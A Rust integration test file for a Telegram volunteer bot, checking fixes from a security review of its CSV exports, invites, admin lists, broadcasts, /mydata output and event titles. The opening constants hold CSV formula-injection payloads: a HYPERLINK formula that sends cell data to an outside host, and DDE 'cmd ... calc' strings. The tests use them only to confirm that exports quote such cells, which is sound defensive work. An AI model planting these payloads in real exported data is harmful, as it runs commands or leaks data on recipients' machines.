//! What an outside security and privacy review found, closed: CSV cells that a spreadsheet
//! would run, invites that did more than `/grant` may, admins that outlived `ADMIN_IDS`, and
//! small leaks (broadcast reports after a demotion, `/grant`'s answers, ids in `/mydata`, line
//! breaks the calendar file cannot carry).

use std::time::Duration;

use crate::support::app::texts;
use crate::support::{TestApp, TgUser};
use birlik::db::{roles, wings};
use birlik::domain::role::{Role, StaffRole};
use birlik::i18n::Lang;

const TITLE: &str = "=HYPERLINK(\"https://x.example/?\"&B2,\"open\")";
const PLACE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const WING: &str = "+cmd|' /C calc'!A0";

/// Every field of a CSV file (after its byte-order mark), header included.
fn fields(bytes: &[u8]) -> Vec<String> {
    let text = String::from_utf8(bytes.to_vec()).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("a byte-order mark");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// `sender` prepares a message in English to the audience behind `audience_label` and sends it.
async fn broadcast(app: &TestApp, sender: &TgUser, audience_label: &str, text: &str) {
    let en = |key: &str| app.text(Lang::En, key);
    app.send(sender, "/broadcast").await;
    app.press(sender, audience_label).await;
    let asked = app.send(sender, text).await;
    assert_eq!(texts(&asked), [en("broadcast-which-language")]);
    app.press(sender, "English").await;
    app.press(sender, &en("broadcast-preview")).await;
    let summary = app
        .fake
        .sent_to(sender.id)
        .into_iter()
        .rev()
        .find(|s| s.text.starts_with("Audience"))
        .expect("the summary before sending");
    let send_label = summary
        .button_labels()
        .into_iter()
        .find(|l| l.starts_with('✅'))
        .expect("a Send button with the audience size");
    app.press(sender, &send_label).await;
    app.wait_broadcasts_finished(Duration::from_secs(15)).await;
    let csv_label = en("broadcast-unreached-csv");
    app.wait_until("the final report with its CSV button", || {
        app.fake.find_button(sender.id, &csv_label).is_some()
    })
    .await;
}

#[tokio::test]
async fn no_csv_lets_text_from_people_run_as_a_spreadsheet_formula() {
    let app = TestApp::spawn_with(&[("ADMIN_IDS", "1")]).await;
    let en = |key: &str| app.text(Lang::En, key);
    let admin = TgUser::new(1, "Admin", Some("en"));
    app.fake.add_private_chat(&admin);
    let member = TgUser::new(100, "Member", Some("en"));
    let seeded = app.seed_member(&member, "KZ-75", Lang::En).await;
    // An organiser's event title and place, and a coordinator's wing name, as a spreadsheet
    // would run them.
    let wing = wings::insert(&app.pool, "KZ-75", WING, 0).await.unwrap();
    sqlx::query("UPDATE members SET wing_id = ? WHERE id = ?")
        .bind(wing.id)
        .bind(seeded.id)
        .execute(&app.pool)
        .await
        .unwrap();
    let event = app
        .seed_event(&admin, Some("KZ-75"), Some(10), chrono::Duration::hours(48))
        .await;
    sqlx::query("UPDATE events SET title = ?, place = ? WHERE id = ?")
        .bind(TITLE)
        .bind(PLACE)
        .bind(event.id)
        .execute(&app.pool)
        .await
        .unwrap();
    sqlx::query(
        "INSERT INTO signups (event_id, member_id, status, seq, created_at, updated_at)
         VALUES (?, ?, 'confirmed', 1, 1, 1)",
    )
    .bind(event.id)
    .bind(seeded.id)
    .execute(&app.pool)
    .await
    .unwrap();
    app.queue_idle().await;

    // /export, /volunteers with its CSV, and a broadcast's "not reached" list.
    app.send(&admin, "/export").await;
    app.send(&admin, &format!("/volunteers {}", event.id)).await;
    app.press(&admin, &en("volunteers-csv")).await;
    app.fake.block_chat(member.id);
    broadcast(&app, &admin, &en("broadcast-to-all"), "Hello, everyone").await;
    app.press(&admin, &en("broadcast-unreached-csv")).await;

    let files = app.fake.documents_to(admin.id);
    let file = |prefix: &str| {
        let (_, bytes) = files
            .iter()
            .find(|(name, _)| name.starts_with(prefix))
            .unwrap_or_else(|| {
                panic!(
                    "no {prefix} file among {:?}",
                    files.iter().map(|f| &f.0).collect::<Vec<_>>()
                )
            });
        fields(bytes)
    };
    let has = |fields: &[String], cell: &str| fields.iter().any(|f| f == cell);
    let events = file("events-");
    assert!(has(&events, &format!("'{TITLE}")), "{events:?}");
    assert!(has(&events, &format!("'{PLACE}")), "{events:?}");
    let participation = file("participation-");
    assert!(has(&participation, &format!("'{TITLE}")), "{participation:?}");
    let members = file("members-");
    assert!(has(&members, &format!("'{WING}")), "{members:?}");
    // Phones are text from people too: the quote also keeps the plus a spreadsheet would drop.
    assert!(has(&members, "'+77010000100"), "{members:?}");
    let volunteers = file(&format!("event-{}-volunteers", event.id));
    assert!(has(&volunteers, "'+77010000100"), "{volunteers:?}");
    let unreached = file("broadcast-1-not-reached");
    assert!(has(&unreached, &format!("'{WING}")), "{unreached:?}");
    // Counts stay numbers.
    assert!(has(&events, "10"), "the capacity: {events:?}");

    assert_eq!(files.len(), 5);
    for (name, bytes) in &files {
        for field in fields(bytes) {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{name}: {field:?} would run as a formula"
            );
        }
    }
}

/// The invite code in the link `/invite` answered `inviter` with.
async fn invite(app: &TestApp, inviter: &TgUser, command: &str) -> String {
    let reply = app.send(inviter, command).await;
    let text = &reply.first().expect("an answer").text;
    let start = text.find("start=inv_").expect("an invite link") + "start=inv_".len();
    text[start..]
        .chars()
        .take_while(char::is_ascii_hexdigit)
        .collect()
}

async fn unused(app: &TestApp, code: &str) -> Option<bool> {
    sqlx::query_scalar("SELECT used_at IS NULL FROM invites WHERE code = ?")
        .bind(code)
        .fetch_optional(&app.pool)
        .await
        .unwrap()
}

async fn audited(app: &TestApp, action: &str) -> i64 {
    sqlx::query_scalar("SELECT COUNT(*) FROM audit_log WHERE action = ?")
        .bind(action)
        .fetch_one(&app.pool)
        .await
        .unwrap()
}

#[tokio::test]
async fn an_invite_never_does_what_its_maker_could_not_do_with_grant() {
    let app = TestApp::spawn_with(&[("ADMIN_IDS", "1")]).await;
    let en = |key: &str| app.text(Lang::En, key);
    let with_role = |key: &str, role: &str| {
        app.locales
            .text_with(Lang::En, key, &[("role", role.to_owned().into())])
    };
    let admin = TgUser::new(1, "Admin", Some("en"));
    app.fake.add_private_chat(&admin);
    let coordinator = TgUser::new(10, "Coordinator", Some("en"));
    let peer = TgUser::new(11, "Peer", Some("en"));
    let newcomer = TgUser::new(12, "Newcomer", Some("en"));
    let late = TgUser::new(13, "Late", Some("en"));
    let leaving = TgUser::new(14, "Leaving", Some("en"));
    for user in [&coordinator, &peer, &newcomer, &late, &leaving] {
        app.seed_member(user, "KZ-75", Lang::En).await;
    }
    let almaty_coordinator = StaffRole::regional(Role::Coordinator, "KZ-75");
    for user in [&coordinator, &peer, &leaving] {
        app.seed_role(user, almaty_coordinator.clone()).await;
    }

    // A coordinator's organiser invite, tapped by a peer coordinator and by an admin: neither
    // is demoted, and the link stays for the person it was meant for.
    let code = invite(&app, &coordinator, "/invite organiser").await;
    for (person, role, described) in [
        (&peer, almaty_coordinator.clone(), "coordinator, Almaty"),
        (&admin, StaffRole::admin(), "admin of the republican headquarters"),
    ] {
        let reply = app.send(person, &format!("/start inv_{code}")).await;
        assert_eq!(texts(&reply), [with_role("invite-keeps-role", described)]);
        assert_eq!(roles::find(&app.pool, person.id).await.unwrap(), Some(role));
    }
    // The maker tapping their own link does not change their role either.
    let reply = app.send(&coordinator, &format!("/start inv_{code}")).await;
    assert_eq!(
        texts(&reply),
        [with_role("invite-keeps-role", "coordinator, Almaty")]
    );
    assert_eq!(unused(&app, &code).await, Some(true));
    assert_eq!(audited(&app, "invite_refused").await, 3);
    let reply = app.send(&newcomer, &format!("/start inv_{code}")).await;
    assert_eq!(texts(&reply), [with_role("invite-accepted", "organiser, Almaty")]);
    assert_eq!(
        roles::find(&app.pool, newcomer.id).await.unwrap(),
        Some(StaffRole::regional(Role::Organiser, "KZ-75"))
    );

    // The maker's right is checked again when the link is used: demoted to organiser, they
    // can no longer make organisers, whatever links they sent before.
    let code = invite(&app, &coordinator, "/invite organiser").await;
    app.send(&admin, "/grant organiser 10").await;
    let reply = app.send(&late, &format!("/start inv_{code}")).await;
    assert_eq!(texts(&reply), [en("invite-void")]);
    assert_eq!(roles::find(&app.pool, late.id).await.unwrap(), None);

    // Revoking the maker voids the invites nobody used.
    let code = invite(&app, &peer, "/invite organiser").await;
    app.send(&admin, "/revoke 11").await;
    assert_eq!(unused(&app, &code).await, None);
    assert_eq!(audited(&app, "invites_voided").await, 1);
    let reply = app.send(&late, &format!("/start inv_{code}")).await;
    assert_eq!(texts(&reply), [en("invite-unknown")]);

    // So does erasing oneself.
    let code = invite(&app, &leaving, "/invite organiser").await;
    app.send(&leaving, "/forget").await;
    app.press(&leaving, &en("forget-yes")).await;
    assert_eq!(unused(&app, &code).await, None);
    let reply = app.send(&late, &format!("/start inv_{code}")).await;
    assert_eq!(texts(&reply), [en("invite-unknown")]);
    assert_eq!(roles::find(&app.pool, late.id).await.unwrap(), None);
}

#[tokio::test]
async fn an_id_removed_from_admin_ids_is_no_admin_after_the_next_start() {
    let mut app = TestApp::spawn_with(&[("ADMIN_IDS", "1,2")]).await;
    let kept = TgUser::new(1, "Kept", Some("en"));
    let removed = TgUser::new(2, "Removed", Some("en"));
    let granted = TgUser::new(3, "Granted", Some("en"));
    for user in [&kept, &removed, &granted] {
        app.fake.add_private_chat(user);
    }
    // An admin made with `birlik grant`.
    let mut tx = app.pool.begin().await.unwrap();
    roles::grant(&mut tx, granted.id, &StaffRole::admin(), None, "command_line", 1)
        .await
        .unwrap();
    tx.commit().await.unwrap();
    let audit_title = app.text(Lang::En, "audit-title");
    let reply = app.send(&removed, "/audit").await;
    assert!(reply[0].text.starts_with(&audit_title), "{:?}", texts(&reply));

    app.restart_with(&[("ADMIN_IDS", "1")]).await;
    assert_eq!(roles::find(&app.pool, removed.id).await.unwrap(), None);
    assert_eq!(
        roles::find(&app.pool, kept.id).await.unwrap(),
        Some(StaffRole::admin())
    );
    assert_eq!(
        roles::find(&app.pool, granted.id).await.unwrap(),
        Some(StaffRole::admin()),
        "admins granted otherwise stay until revoked"
    );
    let reply = app.send(&removed, "/audit").await;
    assert_eq!(texts(&reply), [app.text(Lang::En, "not-allowed")]);
    let logged: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM audit_log WHERE action = 'role_revoked' AND target_user_id = 2
             AND actor_user_id IS NULL AND json_extract(details, '$.via') = 'ADMIN_IDS'",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert_eq!(logged, 1);

    // Listed again, an admin again.
    app.restart_with(&[("ADMIN_IDS", "1,2")]).await;
    assert_eq!(
        roles::find(&app.pool, removed.id).await.unwrap(),
        Some(StaffRole::admin())
    );
}

#[tokio::test]
async fn a_demoted_sender_loses_the_broadcast_report_and_its_csv() {
    let app = TestApp::spawn_with(&[("ADMIN_IDS", "1")]).await;
    let en = |key: &str| app.text(Lang::En, key);
    let admin = TgUser::new(1, "Admin", Some("en"));
    app.fake.add_private_chat(&admin);
    let coordinator = TgUser::new(10, "Coordinator", Some("en"));
    let member = TgUser::new(100, "Member", Some("en"));
    app.seed_member(&coordinator, "KZ-75", Lang::En).await;
    app.seed_member(&member, "KZ-75", Lang::En).await;
    app.seed_role(&coordinator, StaffRole::regional(Role::Coordinator, "KZ-75"))
        .await;
    app.fake.block_chat(member.id);
    broadcast(&app, &coordinator, &en("broadcast-to-region"), "Meeting at six").await;
    let csv_label = en("broadcast-unreached-csv");
    app.press(&coordinator, &csv_label).await;
    assert_eq!(app.fake.documents_to(coordinator.id).len(), 1);

    app.send(&admin, "/grant organiser 10").await;
    let before = app.fake.call_count();
    app.press(&coordinator, &csv_label).await;
    assert_eq!(app.callback_answers_since(before), [en("button-stale")]);
    assert_eq!(
        app.fake.documents_to(coordinator.id).len(),
        1,
        "no second CSV for a sender who may no longer broadcast"
    );
}

#[tokio::test]
async fn grant_answers_alike_for_nobody_and_members_elsewhere_and_grants_only_to_members() {
    let app = TestApp::spawn_with(&[("ADMIN_IDS", "1")]).await;
    let admin = TgUser::new(1, "Admin", Some("en"));
    app.fake.add_private_chat(&admin);
    let coordinator = TgUser::new(10, "Coordinator", Some("en"));
    let astana_member = TgUser::new(200, "Astana", Some("en"));
    app.seed_member(&coordinator, "KZ-75", Lang::En).await;
    app.seed_member(&astana_member, "KZ-71", Lang::En).await;
    app.seed_role(&coordinator, StaffRole::regional(Role::Coordinator, "KZ-75"))
        .await;
    let before = app.snapshot(&["roles", "members"]).await;
    let unknown = app.text(Lang::En, "person-unknown");
    for command in [
        "/grant organiser @user200",
        "/grant organiser 200",
        "/grant organiser @nobody_here",
        "/grant organiser 999",
    ] {
        let reply = app.send(&coordinator, command).await;
        assert_eq!(texts(&reply), [unknown.as_str()], "{command}");
    }
    // Nor does an admin give a role to an id that never registered.
    let reply = app.send(&admin, "/grant organiser 999 KZ-75").await;
    assert_eq!(texts(&reply), [unknown.as_str()]);
    assert_eq!(app.snapshot(&["roles", "members"]).await, before);
}

#[tokio::test]
async fn mydata_names_other_staff_only_as_another_staff_member() {
    let app = TestApp::spawn().await;
    let coordinator = TgUser::new(10, "Coordinator", Some("en"));
    let member = TgUser::new(100, "Member", Some("en"));
    app.seed_member(&coordinator, "KZ-75", Lang::En).await;
    app.seed_member(&member, "KZ-75", Lang::En).await;
    app.seed_role(&coordinator, StaffRole::regional(Role::Coordinator, "KZ-75"))
        .await;
    app.send(&coordinator, "/grant organiser @user100").await;
    app.send(&member, "/mydata").await;
    let (_, bytes) = app.fake.documents_to(member.id).pop().expect("the JSON file");
    let document: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
    let entries = document["audit_log"].as_array().unwrap();
    let granted = entries
        .iter()
        .find(|e| e["action"] == "role_granted")
        .expect("the grant is in the member's data");
    assert_eq!(
        granted["actor_user_id"],
        app.text(Lang::En, "mydata-another-staff-member")
    );
    assert_eq!(granted["target_user_id"], member.id);
    for entry in entries {
        assert_ne!(entry["actor_user_id"], coordinator.id, "{entry}");
        assert_ne!(entry["target_user_id"], coordinator.id, "{entry}");
    }
}

#[tokio::test]
async fn free_text_refuses_line_breaks_the_calendar_file_cannot_carry() {
    let app = TestApp::spawn().await;
    let en = |key: &str| app.text(Lang::En, key);
    let organiser = TgUser::new(10, "Organiser", Some("en"));
    app.seed_member(&organiser, "KZ-75", Lang::En).await;
    app.seed_role(&organiser, StaffRole::regional(Role::Organiser, "KZ-75"))
        .await;
    let reply = app.send(&organiser, "/newevent").await;
    assert!(
        texts(&reply).contains(&en("event-ask-title").as_str()),
        "{:?}",
        texts(&reply)
    );
    for title in [
        "Tree\rplanting",
        "Tree\u{85}planting",
        "Tree\u{2028}planting",
        "Tree\u{2029}planting",
    ] {
        let reply = app.send(&organiser, title).await;
        assert_eq!(
            reply.first().map(|s| s.text.as_str()),
            Some(en("event-error-control-character").as_str()),
            "{title:?}"
        );
    }
    // A CR LF pair is a line break as any other: the title is taken.
    let reply = app.send(&organiser, "Tree\r\nplanting").await;
    assert!(
        texts(&reply).contains(&en("event-ask-description").as_str()),
        "{:?}",
        texts(&reply)
    );
}
